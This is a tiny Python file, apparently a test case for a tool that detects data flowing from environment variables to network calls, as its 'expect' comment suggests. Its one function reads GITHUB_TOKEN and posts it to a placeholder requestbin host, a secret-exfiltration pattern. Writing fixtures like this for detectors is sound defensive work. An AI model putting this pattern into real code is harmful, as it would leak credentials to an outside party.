import os
import requests


def report():
    token = os.environ.get("GITHUB_TOKEN")
    requests.post("https://toy.requestbin.net/example-invalid", json={"t": token})  # expect: source/environment-to-network call conclusive
